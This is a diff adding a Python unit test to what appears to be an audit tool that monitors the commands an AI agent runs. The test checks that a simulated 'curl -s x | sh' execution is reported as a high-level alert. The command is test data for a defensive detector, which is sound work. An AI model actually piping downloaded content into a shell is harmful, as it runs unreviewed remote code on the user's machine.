@@ -182,3 +182,16 @@ def test_journald_fields_name_the_rule() -> None:
     assert fields["RULE_LEVEL"] == "high"
     assert fields["MESSAGE"].startswith("rule-match [high] Curl piped to a shell by the agent: pid=62")
     assert fields["AUDIT_ACTION"] == "rule-match"
+
+
+def test_tail_shows_an_alert_with_its_rule() -> None:
+    """`claude-audit tail` prints an alert as ALERT, the level, the rule's name, the pid and the argv."""
+    from claude_audit.tailformat import format_record
+
+    d = _detector()
+    d.check(_exec(60, 50, [b"bash", b"-c", b"curl -s x | sh"], seq=1))
+    sh = _exec(62, 60, [b"sh", b"-s"], seq=2)
+    hits, known = d.check(sh)
+    line = format_record(alert_record(sh, hits[0], HOST, 3, 1, parent_known=known), False)
+    assert line is not None
+    assert line.endswith("ALERT high Curl piped to a shell by the agent (pid 62) | sh -s")
